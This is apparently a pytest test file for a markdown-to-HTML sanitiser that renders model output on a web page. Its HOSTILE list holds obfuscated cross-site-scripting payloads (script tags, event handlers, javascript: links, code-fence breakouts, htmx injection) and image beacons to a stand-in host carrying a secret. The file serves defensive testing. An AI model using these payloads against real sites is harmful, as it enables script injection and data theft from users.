"""Text of a model on a page: what is shown, and what must never get through."""

import re

import pytest

from senate.reading.markdown import MAX_CHARS, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.test/?q=secret)",
    "![x][r]\n\n[r]: https://evil.test/p.png",
    "<a href='https://a.test' onclick=alert(1)>x</a>",
    "<b hx-get='/providers/' hx-trigger='load'>x</b>",
    "<div data-hx-on:load='alert(1)' hx-swap-oob='true'>x</div>",
    "<form id=htmx><input name=csrfmiddlewaretoken></form>",
    "# <a id=head name=head>x</a>",
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover=alert(1) x="\ncode\n```',
    "```python\n'</code></pre><script>alert(1)</script>'\n```",
    "`</code><script>alert(1)</script>`",
    "<style>*{display:none}</style>",
    "<p style='position:fixed' class='dialog'>x</p>",
    "[x](https://a.test \"' onmouseover='alert(1)\")",
    "\u202e<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]
TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s[^>]*)?)>")
ALLOWED = {"href", "rel", "title", "start", "tabindex", "class"}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_leaves_no_live_tag_attribute_or_address(text: str) -> None:
    html = str(to_html(text))
    for _, tag, attributes in TAG.findall(html):
        assert tag not in {
            "script",
            "img",
            "svg",
            "math",
            "iframe",
            "form",
            "input",
            "style",
            "object",
            "div",
            "b",
        }
        names = set(re.findall(r'\s([a-zA-Z:-]+)="[^"]*"', attributes))
        assert names <= ALLOWED, html
        assert not re.search(r'href="(?!https?:|mailto:|/|#)', attributes), html
    assert 'class="dialog"' not in html


def test_an_image_never_loads_from_anywhere() -> None:
    assert "<img" not in to_html("![pixel](https://evil.test/?q=1)")


def test_headings_stand_below_those_of_the_page() -> None:
    assert "<h3>One</h3>" in to_html("# One") and "<h6>Six</h6>" in to_html("###### Six")


def test_code_is_coloured_with_classes_and_never_with_styles() -> None:
    html = to_html("```python\ndef f(): return 1\n```")
    assert '<span class="k">def</span>' in html
    assert "style" not in html


def test_a_short_first_paragraph_leads_and_a_long_one_does_not() -> None:
    assert to_html("Roll back.\n\nBecause.", lead=True).startswith('<p class="lead">')
    assert to_html("word " * 80, lead=True).startswith("<p>")


def test_links_tell_nobody_where_they_come_from() -> None:
    assert 'rel="nofollow noopener noreferrer"' in to_html("[docs](https://example.test)")


def test_a_text_that_is_too_long_to_parse_is_shown_as_it_came() -> None:
    html = to_html("<b>" + "x" * MAX_CHARS)
    assert html.startswith('<pre class="plain"') and "&lt;b&gt;" in html
